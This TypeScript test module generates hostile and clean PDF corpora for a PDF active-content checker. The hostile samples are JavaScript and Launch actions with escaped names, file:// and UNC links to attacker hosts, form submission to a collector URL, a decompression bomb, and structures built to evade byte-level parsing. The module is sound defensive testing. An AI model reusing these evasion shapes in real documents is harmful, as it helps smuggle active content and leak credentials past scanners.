import { deflateSync, inflateSync } from 'node:zlib';
import { PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts, rgb } from 'pdf-lib';
import { samplePdf } from '#local/sample-pdf';
import { classicPdf, flate, latin1, objectStreamPdf, png, rawObjectStreamPdf, stream, text } from './pdf-builder.ts';

/**
 * Hostile and clean PDFs, all made here. Hostile files each carry one way to smuggle active content past a
 * byte-level check (or a structure a reader would repair silently); clean files are shaped like what offices
 * really send: several pages, fonts, images, forms, links, metadata, outlines, incremental updates, signatures.
 */
export interface CorpusFile {
  readonly name: string;
  readonly bytes: Uint8Array;
}
export interface HostileFile extends CorpusFile {
  readonly code: 'PDF_ACTIVE_CONTENT' | 'PDF_UNPARSEABLE' | 'PDF_ENCRYPTED' | 'PDF_TRAILING_DATA';
}

const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>';
const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const content = stream('', 'BT /F1 12 Tf 72 760 Td (Hello) Tj ET');
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** A one-page file whose catalog gets `catalogExtra`, page gets `pageExtra`, plus extra objects from 6 on. */
function onePage(catalogExtra: string, extra: Record<number, string> = {}, pageExtra = ''): Uint8Array {
  return classicPdf(
    { 1: `<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>`, 2: pages, 3: page.replace(/ >>$/, ` ${pageExtra} >>`), 4: content, 5: font, ...extra },
    '/Root 1 0 R',
  );
}

/** The same page with a link annotation whose action is `action`. */
const withLink = (action: string) => onePage('', { 6: `<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /Border [0 0 0] /A ${action} >>` }, '/Annots [6 0 R]');

async function cleanBase(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const helvetica = await doc.embedFont(StandardFonts.Helvetica);
  doc.addPage([595, 842]).drawText('To trinh de nghi khen thuong', { x: 72, y: 760, size: 14, font: helvetica });
  return doc.save();
}

export async function hostileCorpus(): Promise<HostileFile[]> {
  const base = await cleanBase();
  const encrypt = `/Encrypt << /Filter /Standard /V 1 /R 2 /O <${'28bf4e5e4e758a4164004e56fffa0108'.repeat(2)}> /U <${'ab'.repeat(32)}> /P -3904 >> /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>]`;
  const hiddenInComment = (() => {
    // Object 6 exists only inside a comment: a reader that follows the cross-reference table reads it, a
    // front-to-back parser skips it as a comment.
    const head = `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>\nendobj\n2 0 obj\n${pages}\nendobj\n3 0 obj\n${page}\nendobj\n4 0 obj\n${content}\nendobj\n5 0 obj\n${font}\nendobj\n% `;
    const hidden = '6 0 obj << /S /J#61vaScript /J#53 (app.alert(1)) >> endobj\n';
    const offsets = [...head.matchAll(/^(\d) 0 obj/gm)].map((m) => m.index!);
    const xrefAt = head.length + hidden.length;
    const rows = [...offsets, head.length].map((o) => `${String(o).padStart(10, '0')} 00000 n\r\n`).join('');
    return latin1(`${head}${hidden}xref\n0 7\n0000000000 65535 f\r\n${rows}trailer\n<< /Size 7 /Root 1 0 R >>\nstartxref\n${xrefAt}\n%%EOF\n`);
  })();
  const wrongOffsets = (() => {
    const good = text(onePage(''));
    return latin1(good.replace(/(\d{10}) 00000 n/g, (_, o: string) => `${String(Number(o) + 7).padStart(10, '0')} 00000 n`));
  })();
  const goodText = text(onePage(''));
  return [
    { name: 'OpenAction JavaScript, written plainly', code: 'PDF_ACTIVE_CONTENT', bytes: onePage('/OpenAction 6 0 R', { 6: '<< /S /JavaScript /JS (app.alert(1)) >>' }) },
    { name: 'JavaScript action with #xx-escaped names (/J#61vaScript, /J#53)', code: 'PDF_ACTIVE_CONTENT', bytes: onePage('/OpenAction 6 0 R', { 6: '<< /S /J#61vaScript /J#53 (app.alert(1)) >>' }) },
    { name: 'JavaScript action with lower-case hex escapes (/#4aava#53cript, /#4a#53)', code: 'PDF_ACTIVE_CONTENT', bytes: onePage('/OpenAction 6 0 R', { 6: '<< /S /#4aava#53cript /#4a#53 (app.alert(1)) >>' }) },
    {
      name: 'JavaScript action inside a compressed object stream',
      code: 'PDF_ACTIVE_CONTENT',
      bytes: objectStreamPdf({ 2: pages, 3: page, 4: content }, { 1: '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>', 5: font, 6: '<< /S /JavaScript /JS (app.alert(1)) >>' }, '/Root 1 0 R'),
    },
    {
      name: 'document-level JavaScript in the /Names tree, compressed',
      code: 'PDF_ACTIVE_CONTENT',
      bytes: objectStreamPdf({ 2: pages, 3: page, 4: content }, { 1: '<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 6 0 R >> >>', 5: font, 6: '<< /Names [(a) 7 0 R] >>', 7: '<< /S /JavaScript /JS (this.print()) >>' }, '/Root 1 0 R'),
    },
    {
      name: 'embedded file in the /EmbeddedFiles name tree, compressed',
      code: 'PDF_ACTIVE_CONTENT',
      bytes: objectStreamPdf(
        { 2: pages, 3: page, 4: content, 8: stream('/Type /EmbeddedFile /Subtype /application#2Fx-msdownload', 'MZ') },
        { 1: '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 6 0 R >> >>', 5: font, 6: '<< /Names [(run.exe) 7 0 R] >>', 7: '<< /Type /Filespec /F (run.exe) /EF << /F 8 0 R >> >>' },
        '/Root 1 0 R',
      ),
    },
    { name: 'Launch action on a link, escaped (/L#61unch)', code: 'PDF_ACTIVE_CONTENT', bytes: withLink('<< /S /L#61unch /F (cmd.exe) >>') },
    { name: 'OpenAction opening a URI', code: 'PDF_ACTIVE_CONTENT', bytes: onePage('/OpenAction << /S /URI /URI (https://tracker.example/open) >>') },
    { name: 'page /AA opening a URI when the page opens', code: 'PDF_ACTIVE_CONTENT', bytes: onePage('', { 6: '<< /S /URI /URI (https://tracker.example/page) >>' }, '/AA << /O 6 0 R >>') },
    { name: 'OpenAction GoTo chained by /Next to a URI', code: 'PDF_ACTIVE_CONTENT', bytes: onePage('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [6 0 R] >>', { 6: '<< /S /URI /URI (https://tracker.example/next) >>' }) },
    {
      name: 'form field /AA submitting the form',
      code: 'PDF_ACTIVE_CONTENT',
      bytes: onePage('/AcroForm << /Fields [6 0 R] >>', { 6: '<< /FT /Tx /T (name) /Type /Annot /Subtype /Widget /Rect [72 600 300 620] /P 3 0 R /AA << /Bl << /S /SubmitForm /F << /FS /URL /F (https://collect.example/) >> >> >> >>' }, '/Annots [6 0 R]'),
    },
    { name: 'OpenAction opening another PDF (GoToR)', code: 'PDF_ACTIVE_CONTENT', bytes: onePage('/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>') },
    { name: 'ImportData action on a link', code: 'PDF_ACTIVE_CONTENT', bytes: withLink('<< /S /ImportData /F (data.fdf) >>') },
    { name: 'GoToE into an embedded document', code: 'PDF_ACTIVE_CONTENT', bytes: withLink('<< /S /GoToE /T << /R /C /N (a.pdf) >> >>') },
    { name: 'Thread action into another file', code: 'PDF_ACTIVE_CONTENT', bytes: withLink('<< /S /Thread /F (other.pdf) /D 0 >>') },
    { name: 'link to a file:// URI (leaks credentials on Windows)', code: 'PDF_ACTIVE_CONTENT', bytes: withLink('<< /S /URI /URI (file://attacker.example/share/x) >>') },
    { name: 'link to a javascript: URI', code: 'PDF_ACTIVE_CONTENT', bytes: withLink('<< /S /URI /URI (javascript:alert(1)) >>') },
    {
      name: 'file attachment annotation',
      code: 'PDF_ACTIVE_CONTENT',
      bytes: onePage('', { 6: '<< /Type /Annot /Subtype /FileAttachment /Rect [72 700 90 720] /FS << /Type /Filespec /F (a.exe) /E#46 << /F 7 0 R >> >> >>', 7: stream('/Type /EmbeddedFile', 'MZ') }, '/Annots [6 0 R]'),
    },
    { name: 'RichMedia annotation', code: 'PDF_ACTIVE_CONTENT', bytes: onePage('', { 6: '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << /Assets << /Names [] >> >> >>' }, '/Annots [6 0 R]') },
    { name: 'XFA form in the AcroForm', code: 'PDF_ACTIVE_CONTENT', bytes: onePage('/AcroForm << /Fields [] /XFA 6 0 R >>', { 6: stream('', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>') }) },
    { name: 'Rendition action (plays media)', code: 'PDF_ACTIVE_CONTENT', bytes: withLink('<< /S /Rendition /OP 0 >>') },
    {
      name: 'JavaScript added by an incremental update, in a compressed object stream',
      code: 'PDF_ACTIVE_CONTENT',
      bytes: objectStreamPdf(
        {},
        { [refNumber(rootRefOf(base))]: `<< /Type /Catalog /Pages ${pagesRefOf(base)} /OpenAction 90 0 R >>`, 90: '<< /S /JavaScript /JS (app.alert(1)) >>' },
        `/Root ${rootRefOf(base)}`,
        { base },
      ),
    },
    {
      name: 'JavaScript in an update whose object stream reuses the number of an earlier one',
      code: 'PDF_ACTIVE_CONTENT',
      bytes: objectStreamPdf({}, { 1: '<< /Type /Catalog /Pages 2 0 R /OpenAction 20 0 R >>', 20: '<< /S /JavaScript /JS (app.alert(1)) >>' }, '/Root 1 0 R', {
        base: objectStreamPdf({ 2: pages, 3: page, 4: content }, { 1: '<< /Type /Catalog /Pages 2 0 R >>', 5: font }, '/Root 1 0 R'),
        objStmNumber: 6,
      }),
    },
    {
      name: 'catalog replaced by an update whose object stream reuses the number and slot of an earlier one',
      code: 'PDF_ACTIVE_CONTENT',
      bytes: objectStreamPdf({}, { 1: '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>' }, '/Root 1 0 R', {
        base: objectStreamPdf({ 2: pages, 3: page, 4: content }, { 1: '<< /Type /Catalog /Pages 2 0 R >>', 5: font }, '/Root 1 0 R'),
        objStmNumber: 6,
      }),
    },
    { name: 'JavaScript added by a plain incremental update', code: 'PDF_ACTIVE_CONTENT', bytes: classicPdf({ 1: `<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>`, 6: '<< /S /JavaScript /JS (app.alert(1)) >>' }, '/Root 1 0 R', { base: onePage('') }) },
    { name: 'bytes appended after the last %%EOF', code: 'PDF_TRAILING_DATA', bytes: latin1(`${goodText}PK\u0003\u0004payload.exe MZ\u0090\u0000`) },
    { name: 'an HTML page appended after the last %%EOF', code: 'PDF_TRAILING_DATA', bytes: latin1(`${goodText}<html><script>alert(1)</script></html>\n`) },
    { name: 'encrypted (standard security handler)', code: 'PDF_ENCRYPTED', bytes: classicPdf({ 1: '<< /Type /Catalog /Pages 2 0 R >>', 2: pages, 3: page, 4: content, 5: font }, `/Root 1 0 R ${encrypt}`) },
    { name: 'truncated file (no trailer, no %%EOF)', code: 'PDF_UNPARSEABLE', bytes: latin1(goodText.slice(0, Math.floor(goodText.length * 0.6))) },
    { name: 'cross-reference offsets that point nowhere', code: 'PDF_UNPARSEABLE', bytes: wrongOffsets },
    { name: 'object reachable only through the xref, hidden in a comment', code: 'PDF_UNPARSEABLE', bytes: hiddenInComment },
    { name: 'data smuggled between the objects and the trailer', code: 'PDF_UNPARSEABLE', bytes: latin1(goodText.replace('\nxref', '\nPK\u0003\u0004 MZ garbage payload\nxref')) },
    { name: 'duplicate keys in a dictionary (/S /URI then /S /GoTo)', code: 'PDF_UNPARSEABLE', bytes: onePage('/OpenAction << /S /URI /URI (https://tracker.example/) /S /GoTo /D [3 0 R /Fit] >>') },
    {
      name: 'objects compressed in a stream not typed /ObjStm',
      code: 'PDF_UNPARSEABLE',
      bytes: objectStreamPdf({ 2: pages, 3: page, 4: content }, { 1: '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>', 5: font, 6: '<< /S /JavaScript /JS (app.alert(1)) >>' }, '/Root 1 0 R', { objStmType: 'Metadata' }),
    },
    {
      name: 'object stream with a filter the checker cannot decode',
      code: 'PDF_UNPARSEABLE',
      bytes: latin1(text(objectStreamPdf({ 2: pages, 3: page, 4: content }, { 1: '<< /Type /Catalog /Pages 2 0 R >>', 5: font }, '/Root 1 0 R')).replace('/Filter /FlateDecode /Length', '/Filter /JBIG2Decode /Length')),
    },
    {
      name: 'object stream that inflates to 65 MiB (decompression bomb)',
      code: 'PDF_UNPARSEABLE',
      bytes: onePage('', { 6: stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', text(deflateSync(Buffer.alloc(65 * 1024 * 1024, 0x20)))) }),
    },
    { name: 'arrays nested 100 000 deep', code: 'PDF_UNPARSEABLE', bytes: onePage(`/Deep ${'['.repeat(100_000)}${']'.repeat(100_000)}`) },
    { name: 'JavaScript in an object no cross-reference entry names', code: 'PDF_ACTIVE_CONTENT', bytes: orphan(goodText, '77 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n') },
    {
      name: 'JavaScript in an earlier revision, replaced by a later update',
      code: 'PDF_ACTIVE_CONTENT',
      bytes: classicPdf({ 1: '<< /Type /Catalog /Pages 2 0 R >>', 6: '<< /S /GoTo /D [3 0 R /Fit] >>' }, '/Root 1 0 R', { base: onePage('/OpenAction 6 0 R', { 6: '<< /S /JavaScript /JS (app.alert(1)) >>' }) }),
    },
    // Shapes readers read differently from a front-to-back parse (review of branch review/22)
    { name: 'a comment "%startxref 0" at the end: readers take it and rebuild the cross-reference', code: 'PDF_UNPARSEABLE', bytes: latin1(goodText.replace(/%%EOF\n$/, '%startxref 0\n%%EOF\n')) },
    {
      name: 'objects hidden in metadata stream data, found when a reader rebuilds the cross-reference',
      code: 'PDF_UNPARSEABLE',
      bytes: onePage('/Metadata 6 0 R', { 6: stream('/Type /Metadata /Subtype /XML', '\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R >>\nendobj\n7 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n') }),
    },
    {
      name: 'object hidden mid-line in a content-stream string (pdf.js takes it as a new object in a rebuild)',
      code: 'PDF_UNPARSEABLE',
      bytes: onePage('', { 4: stream('', 'BT /F1 12 Tf 72 700 Td ( 1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R >> endobj ) Tj ET') }),
    },
    { name: 'link URI action whose /S is a reference (file: link)', code: 'PDF_ACTIVE_CONTENT', bytes: onePage('', { 6: '<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /S 7 0 R /URI (file://attacker.example/share/x) >> >>', 7: '/URI' }, '/Annots [6 0 R]') },
    { name: 'OpenAction URI whose /S is a reference', code: 'PDF_ACTIVE_CONTENT', bytes: onePage('/OpenAction << /S 6 0 R /URI (https://tracker.example/open) >>', { 6: '/URI' }) },
    {
      name: 'object stream whose objects overlap: /FileAttachment1 read by readers as /FileAttachment (annotation /Subtype by reference)',
      code: 'PDF_ACTIVE_CONTENT',
      bytes: rawObjectStreamPdf(
        { 1: '<< /Type /Catalog /Pages 2 0 R >>', 2: pages, 3: page.replace(/ >>$/, ' /Annots [6 0 R] >>'), 4: content, 5: font, 6: '<< /Type /Annot /Subtype 21 0 R /Rect [72 700 90 720] /FS (a.pdf) >>' },
        { header: '21 0 22 15 ', data: '/FileAttachment1 ', members: [21, 22] },
        '/Root 1 0 R',
      ),
    },
    { name: 'object stream with two objects at one offset', code: 'PDF_UNPARSEABLE', bytes: rawObjectStreamPdf({ 1: '<< /Type /Catalog /Pages 2 0 R >>', 2: pages, 3: page, 4: content, 5: font }, { header: '21 0 22 0 ', data: '<< /A 1 >> ', members: [21, 22] }, '/Root 1 0 R') },
    { name: 'object stream whose object runs past the next offset', code: 'PDF_UNPARSEABLE', bytes: rawObjectStreamPdf({ 1: '<< /Type /Catalog /Pages 2 0 R >>', 2: pages, 3: page, 4: content, 5: font }, { header: '21 0 22 4 ', data: '1 2 3 ', members: [21, 22] }, '/Root 1 0 R') },
    { name: 'not a PDF body at all after the header', code: 'PDF_UNPARSEABLE', bytes: latin1('%PDF-1.7\n<html><body>not a pdf</body></html>\n%%EOF\n') },
  ];
}

/** Inserts `object` just before the cross-reference table, with no entry for it (startxref moves with the table). */
function orphan(pdf: string, object: string): Uint8Array {
  const at = pdf.lastIndexOf('xref\n0 ');
  return latin1(`${pdf.slice(0, at)}${object}${pdf.slice(at).replace(/startxref\n(\d+)/, (_, o: string) => `startxref\n${Number(o) + object.length}`)}`);
}

/** The /Pages reference of a pdf-lib document (pdf-lib numbers its objects itself). */
function pagesRefOf(pdf: Uint8Array): string {
  const match = /\/Type \/Catalog\s*\/Pages (\d+ \d+ R)/.exec(text(pdf)) ?? /\/Pages (\d+ \d+ R)/.exec(inflateAll(pdf));
  if (!match?.[1]) throw new Error('no /Pages');
  return match[1];
}

/** pdf-lib compresses the catalog into an object stream: read it back to find /Pages. */
function inflateAll(pdf: Uint8Array): string {
  let out = '';
  for (const m of text(pdf).matchAll(/stream\r?\n([\s\S]*?)\r?\nendstream/g)) {
    try {
      out += inflateSync(Buffer.from(m[1] ?? '', 'latin1')).toString('latin1');
    } catch {
      // not a flate stream
    }
  }
  return out;
}

export async function cleanCorpus(): Promise<CorpusFile[]> {
  const files: CorpusFile[] = [{ name: 'local/sample-pdf.ts sample', bytes: samplePdf('To trinh so 12/TTr-UBND ve viec de nghi khen thuong') }];

  // several pages, two standard fonts, object streams (pdf-lib's default) and the same saved with a classic xref
  const multi = await PDFDocument.create();
  const times = await multi.embedFont(StandardFonts.TimesRoman);
  const bold = await multi.embedFont(StandardFonts.HelveticaBold);
  for (let i = 1; i <= 5; i += 1) {
    const p = multi.addPage([595, 842]);
    p.drawText(`Trang ${i}: Bao cao thanh tich`, { x: 72, y: 780, size: 16, font: bold });
    for (let line = 0; line < 40; line += 1) p.drawText(`Dong ${line} cua trang ${i} - noi dung bao cao.`, { x: 72, y: 740 - line * 16, size: 11, font: times, color: rgb(0.1, 0.1, 0.1) });
  }
  files.push({ name: 'five pages of text, object streams', bytes: await multi.save() });
  files.push({ name: 'five pages of text, classic xref', bytes: await multi.save({ useObjectStreams: false }) });

  // images
  const pictured = await PDFDocument.create();
  const image = await pictured.embedPng(png(64, 48));
  const p1 = pictured.addPage();
  p1.drawImage(image, { x: 72, y: 500, width: 320, height: 240 });
  p1.drawRectangle({ x: 60, y: 480, width: 344, height: 280, borderColor: rgb(0, 0, 0), borderWidth: 1 });
  pictured.addPage().drawImage(image, { x: 100, y: 100, width: 64, height: 48 });
  files.push({ name: 'PNG images with alpha (SMask) on two pages', bytes: await pictured.save() });

  // a fillable form without actions
  const form = await PDFDocument.create();
  const fp = form.addPage();
  const f = form.getForm();
  f.createTextField('hoTen').addToPage(fp, { x: 72, y: 700, width: 300, height: 20 });
  f.createCheckBox('dongY').addToPage(fp, { x: 72, y: 660, width: 16, height: 16 });
  const dd = f.createDropdown('danhHieu');
  dd.addOptions(['Chien si thi dua', 'Lao dong tien tien']);
  dd.addToPage(fp, { x: 72, y: 620, width: 200, height: 20 });
  f.getTextField('hoTen').setText('Nguyen Van A');
  files.push({ name: 'AcroForm with text, check box and drop-down fields, no actions', bytes: await form.save() });

  // metadata, outlines, a link to a web page, a named action and an OpenAction that only shows page 1
  const rich = await PDFDocument.create();
  rich.setTitle('Quyet dinh khen thuong');
  rich.setAuthor('Van phong UBND tinh');
  rich.setSubject('Khen thuong');
  rich.setKeywords(['khen thuong', 'thi dua']);
  rich.setProducer('LibreOffice 7.6');
  rich.setCreator('Writer');
  rich.setCreationDate(new Date('2025-01-02T03:04:05Z'));
  const r1 = rich.addPage();
  const r2 = rich.addPage();
  const ctx = rich.context;
  const link = ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, 700, 300, 720], Border: [0, 0, 0], A: { S: 'URI', URI: PDFString.of('https://thiduakhenthuong.example.gov.vn/van-ban?id=12') } }));
  const mail = ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, 670, 300, 690], A: { S: 'URI', URI: PDFString.of('mailto:vanthu@example.gov.vn') } }));
  const next = ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, 640, 300, 660], A: { S: 'Named', N: 'NextPage' } }));
  const goto = ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, 610, 300, 630], Dest: [r2.ref, 'Fit'] }));
  r1.node.set(PDFName.of('Annots'), ctx.obj([link, mail, next, goto]));
  const outlines = ctx.nextRef();
  const o1 = ctx.nextRef();
  const o2 = ctx.nextRef();
  ctx.assign(outlines, ctx.obj({ Type: 'Outlines', First: o1, Last: o2, Count: 2 }));
  ctx.assign(o1, ctx.obj({ Title: PDFHexString.fromText('Phần I – Tóm tắt'), Parent: outlines, Next: o2, Dest: [r1.ref, 'XYZ', null, null, null] }));
  ctx.assign(o2, ctx.obj({ Title: PDFHexString.fromText('Phần II – Thành tích'), Parent: outlines, Prev: o1, A: { S: 'GoTo', D: [r2.ref, 'Fit'] } }));
  rich.catalog.set(PDFName.of('Outlines'), outlines);
  rich.catalog.set(PDFName.of('PageMode'), PDFName.of('UseOutlines'));
  rich.catalog.set(PDFName.of('OpenAction'), ctx.obj([r1.ref, 'Fit']));
  const xmp = '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta><?xpacket end="w"?>';
  rich.catalog.set(PDFName.of('Metadata'), ctx.register(ctx.stream(xmp, { Type: 'Metadata', Subtype: 'XML' })));
  files.push({ name: 'metadata, XMP, outlines, web/mail/named/internal links, OpenAction to page 1', bytes: await rich.save() });

  // an embedded TrueType font, written the way office suites write it (subset, FontFile2, ToUnicode)
  const fontProgram = flate('\u0000\u0001\u0000\u0000\u0000\u000b\u0000\u0080\u0000\u0003\u0000\u0030glyf'.padEnd(600, '\u0000'));
  files.push({
    name: 'embedded TrueType subset font with FontFile2 and ToUnicode',
    bytes: classicPdf(
      {
        1: '<< /Type /Catalog /Pages 2 0 R /Lang (vi-VN) /MarkInfo << /Marked true >> >>',
        2: pages,
        3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /ProcSet [/PDF /Text] >> >>',
        4: stream('/Filter /FlateDecode', flate('BT /F1 12 Tf 72 760 Td <0001000200030004> Tj ET')),
        5: '<< /Type /Font /Subtype /TrueType /BaseFont /ABCDEF+TimesNewRoman /FirstChar 0 /LastChar 4 /Widths [500 500 500 500 500] /FontDescriptor 6 0 R /ToUnicode 8 0 R >>',
        6: '<< /Type /FontDescriptor /FontName /ABCDEF+TimesNewRoman /Flags 4 /FontBBox [-568 -307 2046 1040] /ItalicAngle 0 /Ascent 891 /Descent -216 /CapHeight 662 /StemV 80 /FontFile2 7 0 R >>',
        7: stream(`/Filter /FlateDecode /Length1 600`, fontProgram),
        8: stream('/Filter /FlateDecode', flate('/CIDInit /ProcSet findresource begin 12 dict begin begincmap 1 begincodespacerange <0000> <FFFF> endcodespacerange 1 beginbfchar <0001> <0110> endbfchar endcmap end end')),
        9: `<< /Producer (Microsoft\\256 Word 2019) /CreationDate (D:20250102030405+07'00') >>`,
      },
      '/Root 1 0 R /Info 9 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]',
      { eol: '\r\n' },
    ),
  });

  // an incremental update (an edited title), as readers and signing tools append them
  const edited = await cleanBase();
  files.push({
    name: 'incremental update adding an Info dictionary',
    bytes: objectStreamPdf({}, { 50: '<< /Title (Ban sua lan 2) /ModDate (D:20250301000000Z) >>' }, `/Root ${rootRefOf(edited)} /Info 50 0 R`, { base: edited }),
  });
  files.push({ name: 'classic incremental update adding a page label', bytes: classicPdf({ 1: '<< /Type /Catalog /Pages 2 0 R /PageLabels << /Nums [0 << /S /D >>] >> >>' }, '/Root 1 0 R', { base: onePage('') }) });

  // a signed PDF's structure: signature field, /SigFlags, /ByteRange and /Contents, then an incremental update
  const signed = await PDFDocument.create();
  const sp = signed.addPage();
  sp.drawText('Da ky so', { x: 72, y: 760, font: await signed.embedFont(StandardFonts.Helvetica) });
  const sctx = signed.context;
  const sigValue = sctx.obj({ Type: 'Sig', Filter: 'Adobe.PPKLite', SubFilter: 'adbe.pkcs7.detached', ByteRange: [0, 1234, 5678, 910], Contents: PDFHexString.of('0'.repeat(8192)), M: PDFString.of("D:20250401080000+07'00'"), Name: PDFString.of('Nguyen Van A') });
  const widget = sctx.register(sctx.obj({ Type: 'Annot', Subtype: 'Widget', FT: 'Sig', T: PDFString.of('Chu ky 1'), Rect: [0, 0, 0, 0], F: 132, P: sp.ref, V: sctx.register(sigValue) }));
  sp.node.set(PDFName.of('Annots'), sctx.obj([widget]));
  signed.catalog.set(PDFName.of('AcroForm'), sctx.obj({ Fields: [widget], SigFlags: 3 }));
  const signedBytes = await signed.save({ useObjectStreams: false });
  files.push({ name: 'signed-PDF structure (Sig field, SigFlags, ByteRange, Contents)', bytes: signedBytes });
  files.push({ name: 'signed-PDF structure plus an incremental update after signing', bytes: classicPdf({ 900: "<< /ModDate (D:20250402000000+07'00') >>" }, `/Root ${rootRefOf(signedBytes)} /Info 900 0 R`, { base: signedBytes }) });

  // pages copied from two files into one, as a merge tool does
  const merged = await PDFDocument.create();
  for (const src of [await PDFDocument.load(await multi.save()), await PDFDocument.load(await pictured.save())]) {
    for (const copied of await merged.copyPages(src, src.getPageIndices())) merged.addPage(copied);
  }
  files.push({ name: 'merged document (pages copied from two files)', bytes: await merged.save() });

  // older writers give /Length as a reference and leave content uncompressed; its text may say "stream"
  const words = 'BT /F1 12 Tf 72 760 Td (Bao cao: livestream, mainstream, upstream) Tj ET';
  files.push({
    name: 'indirect /Length and uncompressed text containing the word "stream"',
    bytes: classicPdf({ 1: '<< /Type /Catalog /Pages 2 0 R >>', 2: pages, 3: page, 4: `<< /Length 6 0 R >>\nstream\n${words}\nendstream`, 5: font, 6: String(words.length) }, '/Root 1 0 R'),
  });
  // uncompressed text that names PDF objects ("12 0 obj" in a string), and content lines of numbers
  const aboutObjects = 'q 1 0 0 1 72 700 cm Q\nBT /F1 12 Tf 72 760 Td (Muc 12 0 obj) Tj (Dieu 3 0 objective, 4 0 objet) Tj\n0 -14 Td [(so 1 0 )-250(obj)] TJ ET';
  files.push({ name: 'uncompressed content stream whose text reads "12 0 obj"', bytes: classicPdf({ 1: '<< /Type /Catalog /Pages 2 0 R >>', 2: pages, 3: page, 4: stream('', aboutObjects), 5: font }, '/Root 1 0 R') });
  files.push({ name: 'hand-written file with an object stream and a cross-reference stream', bytes: objectStreamPdf({ 2: pages, 3: page, 4: content }, { 1: '<< /Type /Catalog /Pages 2 0 R >>', 5: font }, '/Root 1 0 R') });
  return files;
}

const refNumber = (ref: string) => Number(ref.split(' ')[0]);

function rootRefOf(pdf: Uint8Array): string {
  const match = /\/Root (\d+ \d+ R)/.exec(text(pdf)) ?? /\/Root (\d+ \d+ R)/.exec(inflateAll(pdf));
  if (!match?.[1]) throw new Error('no /Root');
  return match[1];
}
